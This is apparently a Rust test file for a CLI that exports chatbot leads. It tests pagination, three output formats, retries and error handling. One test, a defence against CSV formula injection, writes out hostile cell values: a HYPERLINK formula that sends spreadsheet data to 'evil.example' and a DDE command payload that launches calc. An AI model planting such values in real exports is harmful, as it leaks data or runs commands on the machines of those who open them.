//! `reekolect-proxy leads` against the embedded mock: every page, three formats, errors.

mod common;

use axum::extract::Query;
use axum::http::StatusCode;
use axum::routing::get;
use axum::Router;
use common::*;
use reekolect_proxy::cli::{ChatType, LeadsArgs, OutputFormat};
use reekolect_proxy::leads::{run, LeadsError, CSV_COLUMNS};
use serde_json::{json, Value};
use std::collections::HashMap;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;

const LEADS: u64 = 250;

fn args(upstream: &str, format: OutputFormat) -> LeadsArgs {
    LeadsArgs {
        bot_id: "b1".into(),
        customer_id: "c1".into(),
        kind: ChatType::Lead,
        format,
        upstream: upstream.into(),
        max_pages: 1000,
        attempts: 3,
        csv_raw: false,
        upstream_ca: None,
    }
}

/// A mock holding LEADS leads (and a few non-leads) for b1/c1, written straight to it.
async fn filled_mock() -> reekolect_proxy::ServerHandle {
    let mock = start_mock().await;
    for n in 0..LEADS + 3 {
        let mut lead = base_lead(n);
        if n < LEADS {
            lead["name"] = json!(format!("Lead {n}"));
            lead["email"] = json!(format!("lead{n}@example.com"));
            lead["phone"] = json!("+44 20 7946 0958");
            lead["tags"] = json!(["a", "b"]);
            lead["attributes"] = json!({"plan": "pro", "seats": n});
            lead["notes"] = json!([{"title": "one"}, {"title": "two"}]);
        }
        let response = client()
            .put(format!("{}/inbox/direct/lead", mock.url()))
            .header("x-bp-token", TOKEN)
            .header("content-type", "application/json")
            .body(lead.to_string())
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
    }
    mock
}

async fn output(args: &LeadsArgs, token: &str) -> (Result<u64, LeadsError>, String) {
    let mut out = Vec::new();
    let result = run(args, token, &mut out, false).await;
    (result, String::from_utf8(out).unwrap())
}

#[tokio::test]
async fn every_page_in_every_format() {
    bounded(async {
        let mock = filled_mock().await;

        let (count, text) = output(&args(&mock.url(), OutputFormat::Json), TOKEN).await;
        assert_eq!(count.unwrap(), LEADS);
        let records: Vec<Value> = serde_json::from_str(&text).unwrap();
        assert_eq!(records.len() as u64, LEADS, "{} pages of 20", LEADS.div_ceil(20));
        assert_eq!(records[0]["uuid"], uuid(0));
        assert_eq!(records[249]["uuid"], uuid(249));

        let (count, text) = output(&args(&mock.url(), OutputFormat::Ndjson), TOKEN).await;
        assert_eq!(count.unwrap(), LEADS);
        let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(lines, records);

        let (count, text) = output(&args(&mock.url(), OutputFormat::Csv), TOKEN).await;
        assert_eq!(count.unwrap(), LEADS);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), CSV_COLUMNS);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len() as u64, LEADS);
        let row: Vec<&str> = rows[7].iter().collect();
        assert_eq!(
            row[..8],
            // The phone begins with `+`: quoted, as every cell a spreadsheet would run (see below).
            [uuid(7).as_str(), "Lead 7", "lead7@example.com", "'+442079460958", "OPEN", "a;b", "plan=pro;seats=7", "2"]
        );
        assert!(row[8].ends_with('Z') && row[9].ends_with('Z'));

        let mut non_leads = args(&mock.url(), OutputFormat::Json);
        non_leads.kind = ChatType::NonLead;
        let (count, _) = output(&non_leads, TOKEN).await;
        assert_eq!(count.unwrap(), 3);

        let mut nobody = args(&mock.url(), OutputFormat::Json);
        nobody.bot_id = "nobody".into();
        let (count, text) = output(&nobody, TOKEN).await;
        assert_eq!(count.unwrap(), 0);
        assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), json!([]));
        mock.shutdown().await.unwrap();
    })
    .await
}

#[tokio::test]
async fn a_wrong_token_is_a_clear_401() {
    bounded(async {
        let mock = start_mock().await;
        let (result, _) = output(&args(&mock.url(), OutputFormat::Csv), "wrong").await;
        let err = result.unwrap_err();
        assert!(matches!(err, LeadsError::Rejected { status: 401, .. }), "{err:?}");
        assert!(err.to_string().contains("REEKOLECT_BOT_TOKEN"), "{err}");
        mock.shutdown().await.unwrap();
    })
    .await
}

#[tokio::test]
async fn transient_errors_are_retried_and_bounded() {
    bounded(async {
        let calls = Arc::new(AtomicU32::new(0));
        let counter = calls.clone();
        // Every page answers 503 once, then page 1 has one record and page 2 is empty.
        let app = Router::new().route(
            "/inbox/direct/chats",
            get(move |Query(query): Query<HashMap<String, String>>| {
                let n = counter.fetch_add(1, Ordering::SeqCst);
                async move {
                    if n % 2 == 0 {
                        return (StatusCode::SERVICE_UNAVAILABLE, "busy".to_string());
                    }
                    let data = if query["page"] == "1" { json!([{"uuid": uuid(1)}]) } else { json!([]) };
                    (StatusCode::OK, json!({"success": true, "code": 200, "data": data}).to_string())
                }
            }),
        );
        let upstream = reekolect_proxy::spawn_router(listener().await, app).unwrap();
        let (count, _) = output(&args(&upstream.url(), OutputFormat::Ndjson), TOKEN).await;
        assert_eq!(count.unwrap(), 1);
        assert_eq!(calls.load(Ordering::SeqCst), 4);

        let mut once = args(&upstream.url(), OutputFormat::Ndjson);
        once.attempts = 1;
        calls.store(0, Ordering::SeqCst);
        let (result, _) = output(&once, TOKEN).await;
        let err = result.unwrap_err();
        assert!(err.to_string().contains("503"), "{err}");
        upstream.shutdown().await.unwrap();

        // A 400 is not retried.
        let mock = start_mock().await;
        let mut bad = args(&mock.url(), OutputFormat::Json);
        bad.bot_id = " ".into();
        let (result, _) = output(&bad, TOKEN).await;
        assert!(matches!(result, Err(LeadsError::Rejected { status: 400, .. })));
        mock.shutdown().await.unwrap();
    })
    .await
}

/// CSV formula injection (issue #19): a visitor sets their own name, tags and attributes
/// through the proxy; the CSV quotes every cell a spreadsheet would run, unless --csv-raw.
#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_are_quoted_unless_raw() {
    bounded(async {
        let mock = start_mock().await;
        let proxy = proxy_to(&mock.url()).await;
        let name = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
        let mut lead = base_lead(1);
        lead["name"] = json!(name);
        lead["tags"] = json!(["@SUM(1+1)"]);
        lead["attributes"] = json!({"cmd": "+cmd|' /C calc'!A0"});
        let (status, body) = put_json(&proxy.url(), &lead).await;
        assert_eq!(status, 200, "{body}");
        let mut second = base_lead(2);
        second["name"] = json!("Ann");
        second["tags"] = json!(["-1+2"]);
        second["attributes"] = json!({"k": "@x"});
        assert_eq!(put_json(&proxy.url(), &second).await.0, 200);

        let rows = |text: String| {
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()).collect::<Vec<_>>()
        };
        let (count, text) = output(&args(&mock.url(), OutputFormat::Csv), TOKEN).await;
        assert_eq!(count.unwrap(), 2);
        let safe = rows(text);
        assert_eq!(safe[0][1], format!("'{name}"));
        assert_eq!(safe[0][5], "'@SUM(1+1)");
        // The attributes cell begins with the key, not with the value a visitor typed.
        assert_eq!(safe[0][6], "cmd=+cmd|' /C calc'!A0");
        assert_eq!(safe[1][1], "Ann");
        assert_eq!(safe[1][5], "'-1+2");
        for row in &safe {
            for cell in row {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} would run");
            }
        }

        let mut raw = args(&mock.url(), OutputFormat::Csv);
        raw.csv_raw = true;
        let (_, text) = output(&raw, TOKEN).await;
        let raw = rows(text);
        assert_eq!(raw[0][1], name);
        assert_eq!(raw[0][5], "@SUM(1+1)");

        for (cell, expected) in [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@a", "'@a"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("a=1", "a=1"),
            ("", ""),
        ] {
            assert_eq!(reekolect_proxy::leads::csv_safe(cell.to_string()), expected);
        }
        proxy.shutdown().await.unwrap();
        mock.shutdown().await.unwrap();
    })
    .await
}

/// Nothing reaches the output before the first page: a refused token leaves it empty.
#[tokio::test]
async fn nothing_is_written_before_the_first_page() {
    bounded(async {
        let mock = start_mock().await;
        for format in [OutputFormat::Json, OutputFormat::Ndjson, OutputFormat::Csv] {
            let (result, text) = output(&args(&mock.url(), format), "wrong-token-0123456789").await;
            assert!(matches!(result, Err(LeadsError::Rejected { status: 401, .. })));
            assert_eq!(text, "", "{format:?}");
        }
        mock.shutdown().await.unwrap();
    })
    .await
}
